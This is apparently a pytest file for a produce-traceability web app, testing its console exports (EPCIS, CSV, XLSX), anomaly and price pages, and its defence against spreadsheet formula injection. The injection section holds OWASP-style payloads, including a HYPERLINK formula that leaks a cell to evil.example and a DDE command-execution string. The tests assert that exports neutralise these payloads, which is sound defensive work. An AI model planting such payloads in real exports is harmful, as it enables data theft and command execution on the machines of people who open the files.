"""The console on a city's data (tests/web/console_support.py's generator, two thinned days): the
exports it links to validate (EPCIS 2.0 against the GS1 schema; the spreadsheets open and agree),
and the anomalies, prices and trace pages hold up on many parties and lots. The 90-day figures are
bench/export_bench.py's."""

from __future__ import annotations

import base64
import csv
import io
import json
import re
from collections import Counter
from datetime import UTC, datetime, timedelta

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from farmtrace.api.app import create_app
from farmtrace.api.settings import Settings

from ..trace import test_epcis as epcis_checks
from .console_support import boxes_overlap, build_city, first_svg, svg_boxes
from .consumer_support import LOG_SIGNER

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def city(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("city")
    settings = Settings.from_env(
        {}, data_dir=tmp, database_url=f"sqlite:///{tmp / 'db.sqlite'}", log_key=LOG_SIGNER.key_string()
    )
    app = create_app(settings)
    stats = build_city(app.state.service, days=2, scale=0.35, workers=2)
    token = stats.regulator.party_key().token()
    with TestClient(app) as client:
        client.cookies.set("ft_token", token)  # kept across the console's redirects to the exports
        yield client, app, stats
    app.state.log.close(close_store=True)


def _range(stats) -> dict[str, str]:
    return {"since": stats.first_day.isoformat(), "until": stats.last_day.isoformat()}


def test_the_city_is_realistic(city):
    _, app, stats = city
    assert stats.parties == 58 and stats.events > 300
    assert stats.refused.get("mass_balance")
    kinds = Counter(e.kind for e, _, _ in app.state.service.events_between(stats.since, stats.until))
    for kind in ("harvest", "inspect", "certify", "ship", "receive", "transform", "sell"):
        assert kinds[kind] > 0, kind


def test_the_epcis_export_of_a_date_range_validates(city):
    client, app, stats = city
    r = client.get("/console/exports/range", params={**_range(stats), "fmt": "jsonld"})
    assert r.status_code == 200 and r.headers["content-type"] == "application/ld+json"
    assert "attachment" in r.headers["content-disposition"]
    document = r.json()
    assert epcis_checks._errors(document) == []
    recorded = app.state.service.events_between(stats.since, stats.until)
    lot_events = [e for e, _, _ in recorded if not e.kind.startswith("party.")]
    assert len(document["epcisBody"]["eventList"]) == len(lot_events)


def test_the_spreadsheets_open_and_agree(city):
    client, app, stats = city
    sheet_csv = client.get("/console/exports/range", params={**_range(stats), "fmt": "csv"})
    rows = list(csv.reader(io.StringIO(sheet_csv.content.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    assert header[:8] == ["事件时间", "事件类型", "业务步骤", "批次号", "批次角色", "产品", "数量", "单位"]
    sheet_xlsx = client.get("/console/exports/range", params={**_range(stats), "fmt": "xlsx", "lang": "en"})
    ws = load_workbook(io.BytesIO(sheet_xlsx.content)).active
    values = list(ws.iter_rows(values_only=True))
    assert values[0][:4] == ("Event time", "Event", "CBV business step", "Lot")
    assert len(values) == len(rows)
    (table,) = ws.tables.values()
    assert table.ref == f"A1:W{len(values)}"  # every column sortable and filterable
    quantities = [v[6] for v in values[1:]]
    assert all(
        q is None or isinstance(q, int | float) or q.__class__.__name__ == "Decimal" for q in quantities
    )
    # Every key data element is filled in: lot, product, quantity, unit, location, party, date.
    for row in body:
        assert all(row[i] for i in (0, 3, 5, 6, 7, 8, 9, 10)), row
    # A harvest lot's trace: back to the field and forward to every shop.
    lot = stats.harvests[0]
    trace = client.get("/console/exports/lot", params={"code": lot, "fmt": "csv"})
    lots = {r[3] for r in csv.reader(io.StringIO(trace.content.decode("utf-8-sig")))}
    expected = {n.lot for n in app.state.service.trace_graph(lot).nodes}
    assert expected <= lots
    epcis = client.get("/console/exports/lot", params={"code": lot, "fmt": "jsonld"})
    assert epcis_checks._errors(json.loads(epcis.content)) == []


def test_anomalies_of_the_city_filter_by_rule(city):
    client, _, stats = city
    for rule, n in stats.refused.items():
        page = client.get("/console/anomalies", params={"rule": rule}).text
        assert len(re.findall(rf'<tr data-rule="{rule}"', page)) == n, rule
    page = client.get("/console/anomalies").text
    assert len(re.findall(r"<tr data-rule=", page)) == sum(stats.refused.values())


def test_prices_of_the_city_chart_three_stages_per_kg(city):
    client, _, _ = city
    page = client.get("/console/prices", params={"product": "宁乡包菜"}).text
    stages = re.findall(r'<g class="series" data-stage="(\w+)">', page)
    assert stages == ["production", "wholesale", "retail"]
    assert "元/kg" in page and "data-price-table" in page


def test_a_city_harvest_lot_is_drawn_readably(city):
    client, app, stats = city
    sizes = {lot: len(app.state.service.trace_graph(lot).nodes) for lot in stats.harvests[:10]}
    lot = max(sizes, key=sizes.get)
    page = client.get(f"/console/lots/{lot}").text
    boxes = svg_boxes(first_svg(page))
    assert len(boxes) == sizes[lot] > 10
    items = list(boxes.values())
    assert not any(boxes_overlap(a, b) for i, a in enumerate(items) for b in items[i + 1 :])


# --- formula injection (OWASP "CSV Injection"): the classic payloads, recorded through the API -----

# What a spreadsheet may read as a formula's start (OWASP; full-width forms: trace/exports.py).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
PAYLOADS = {
    "product": '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "harvest location": "=cmd|' /C calc'!A0",
    "analyte": "@SUM(1+1)",
    "inspect location": "+1+1",
    "recall reason": "-2+3",
    "recall location": "=1+1",
    "full-width": "＝1+1",
}
# A leading tab or carriage return cannot be signed into a name (the domain refuses leading white
# space), so `test_tab_and_cr_are_neutralised` gives them to the writers directly.


@pytest.fixture
def injected(tmp_path):
    """A small ledger whose signed events carry the payloads in product names, locations and details."""
    from ..api.test_stories import World, out, ref
    from ..trace.story import COOP, INSPECT_PASS, REGULATOR, STATION, public_key

    settings = Settings.from_env(
        {},
        data_dir=tmp_path,
        database_url=f"sqlite:///{tmp_path / 'db.sqlite'}",
        log_key=LOG_SIGNER.key_string(),
        # The operator names the stories' regulator, which registers itself over HTTP (the genesis entry).
        bootstrap_key=base64.b64encode(public_key(REGULATOR)).decode(),
    )
    with TestClient(create_app(settings)) as client:
        w = World(client)
        w.register_all()
        product = {"name_zh": PAYLOADS["product"], "name_en": "Cabbage"}
        wide = {"name_zh": PAYLOADS["full-width"], "name_en": "Cabbage"}
        w.record(COOP, {"kind": "harvest", "location": {"name": PAYLOADS["harvest location"]},
                        "outputs": [out("INJ-1", "500", product=product), out("INJ-2", "5", product=wide)],
                        "detail": {"origin": {"name": "宁乡"}}})
        w.record(STATION, {"kind": "inspect", "location": {"name": PAYLOADS["inspect location"]},
                           "inputs": [ref("INJ-1", "500")],
                           "detail": INSPECT_PASS | {"analyte": PAYLOADS["analyte"]}})
        w.record(REGULATOR, {"kind": "recall", "location": {"name": PAYLOADS["recall location"]},
                             "inputs": [ref("INJ-1", "500")],
                             "detail": {"reason": PAYLOADS["recall reason"], "instructions": "下架"}})  # fmt: skip
        yield client, w.token(REGULATOR)


def _neutral(text: str) -> bool:
    return text.startswith("'") and text[1:].startswith(FORMULA_TRIGGERS)


def test_no_export_cell_is_a_formula(injected):
    client, auth = injected
    now = datetime.now(UTC)
    params = {"since": (now - timedelta(days=2)).isoformat(), "until": (now + timedelta(days=1)).isoformat()}
    for route in ("/exports/events.{fmt}", "/lots/INJ-1/export.{fmt}"):
        r = client.get(route.format(fmt="csv"), params=params, headers=auth)
        assert r.status_code == 200, r.text
        cells = [c for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) for c in row]
        r = client.get(route.format(fmt="xlsx"), params=params, headers=auth)
        assert r.status_code == 200, r.text
        ws = load_workbook(io.BytesIO(r.content)).active
        xlsx = [c for row in ws.iter_rows() for c in row]
        assert not [c.coordinate for c in xlsx if c.data_type == "f"]
        for name, payload in PAYLOADS.items():
            if name == "full-width" and "INJ-1" in route:
                continue  # INJ-2 is not in INJ-1's trace
            shown = [c for c in cells if payload in c] + [c.value for c in xlsx if payload in str(c.value)]
            assert shown, payload  # every payload reaches both sheets of both exports
            for text in shown:
                assert _neutral(text), text
        # Whatever starts like a formula is neutralised, in every column of both sheets.
        assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
        assert all(
            not isinstance(c.value, str) or not c.value.startswith(FORMULA_TRIGGERS) for c in xlsx
        )
        # Numbers stay numbers: the quantity column sums in the workbook.
        header = [c.value for c in next(ws.iter_rows())]
        quantities = [row[header.index("数量")] for row in ws.iter_rows(min_row=2, values_only=True)]
        assert quantities and all(isinstance(q, (int, float)) for q in quantities)


@pytest.mark.parametrize("payload", ["\t=1", "\r=1", "\n=1", *PAYLOADS.values()])
def test_tab_and_cr_are_neutralised(payload):
    from farmtrace.trace.exports import write_csv, write_xlsx

    row = {"product": payload, "location": payload, "quantity": "5", "price": "-1.5", "ledger_index": 7}
    buf = io.BytesIO()
    write_csv([row], buf)
    body = list(csv.reader(io.StringIO(buf.getvalue().decode("utf-8-sig"))))[1]
    assert body[5] == body[10] == "'" + payload
    assert body[6] == "5" and body[13] == "-1.5"  # a negative price stays a number
    buf = io.BytesIO()
    write_xlsx([row], buf)
    cells = next(load_workbook(io.BytesIO(buf.getvalue())).active.iter_rows(min_row=2))
    assert cells[5].value == cells[10].value == "'" + payload and cells[5].data_type == "s"
    assert cells[6].value == 5 and cells[13].value == -1.5 and cells[16].value == 7
